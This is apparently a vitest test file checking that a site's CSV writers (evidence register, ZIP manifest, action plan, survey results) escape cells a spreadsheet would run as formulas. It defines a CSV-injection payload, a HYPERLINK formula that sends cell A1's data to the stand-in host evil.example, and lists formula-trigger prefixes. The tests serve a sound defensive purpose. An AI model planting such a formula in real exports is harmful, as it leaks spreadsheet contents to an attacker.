// Every CSV the site writes neutralises cells a spreadsheet would run as a formula: one
// shared helper, and one case per writer with the text staff (or survey respondents) control.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/lib/csv.ts';
import { registerToCsv } from '../../src/lib/evidence/exports.ts';
import { packManifest } from '../../src/lib/evidence/pack.ts';
import { buildRegister } from '../../src/lib/evidence/register.ts';
import { planToCsv } from '../../src/lib/plan/export.ts';
import { surveyAggregatesCsv } from '../../src/lib/survey/export.ts';
import { buildPlan } from '../../src/lib/plan/plan.ts';
import { parseResponses } from '../../src/lib/survey/responses.ts';
import { buildSurvey } from '../../src/lib/survey/result.ts';
import { loadContent } from '../../src/lib/content-check/load.ts';
import { surveySchema } from '../../src/schemas/survey.ts';
import { item } from './support/evidence.ts';

const ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Klik")';
const cells = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();

describe('toCsv', () => {
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=1\n=2'])('prefixes %j with a quote', (text) => {
    expect(cells(toCsv(['a'], [[text]]))).toContain(`'${text}`);
  });

  it('leaves ordinary text and numbers (also negative ones) alone', () => {
    expect(cells(toCsv(['a', 'b', 'c'], [['Rapat 1', -3, 'a=b']]))).toEqual(['a', 'b', 'c', 'Rapat 1', '-3', 'a=b']);
  });
});

const { content } = loadContent('content');
const decree = content.entries.decrees.find((entry) => entry.id === '2022')!;
const plan = buildPlan(decree.data, content.entries.areas.filter((area) => area.id.startsWith('2022')).map((area) => area.data), content.entries.components.filter((component) => component.id.startsWith('2022')));
const hostile = item({ id: 'jahat', indicators: ['I.1.1'], title: ATTACK });
const register = buildRegister(plan, [hostile]);

describe('every CSV writer', () => {
  it('data/<year>/bukti.csv', () => {
    expect(cells(registerToCsv(register, (path) => path))).toContain(`'${ATTACK}`);
  });

  it('the evaluator ZIP manifest.csv', () => {
    const area = register.areas.find((candidate) => candidate.rows.some((row) => row.items.length))!;
    expect(cells(packManifest(area, 10_000_000, (path) => path))).toContain(`'${ATTACK}`);
  });

  it('data/<year>/rencana-aksi.csv', () => {
    const action = plan.areas[0]!.components[0]!.indicators[0]!.actions[0]!;
    const saved = action.step;
    (action as { step: string }).step = ATTACK;
    try {
      expect(cells(planToCsv(plan))).toContain(`'${ATTACK}`);
    } finally {
      (action as { step: string }).step = saved;
    }
  });

  it('survei/<id>/hasil.csv, whose profile labels come from respondents', () => {
    // five respondents: a category of fewer is shown only as "Lainnya"
    const row = `2023-05-02,"${ATTACK.replace(/"/g, '""')}",4,4,3,4,4,4,4,3,3`;
    const csv = ['tanggal,jenis_kelamin,U1,U2,U3,U4,U5,U6,U7,U8,U9', row, row, row, row, row].join('\n');
    const survey = buildSurvey('skm-uji', surveySchema.parse({ title: 'SKM uji', start: '2023-05-01', end: '2023-06-30', population: 100 }), parseResponses(csv).responses);
    expect(cells(surveyAggregatesCsv(survey))).toContain(`'${ATTACK}`);
  });
});
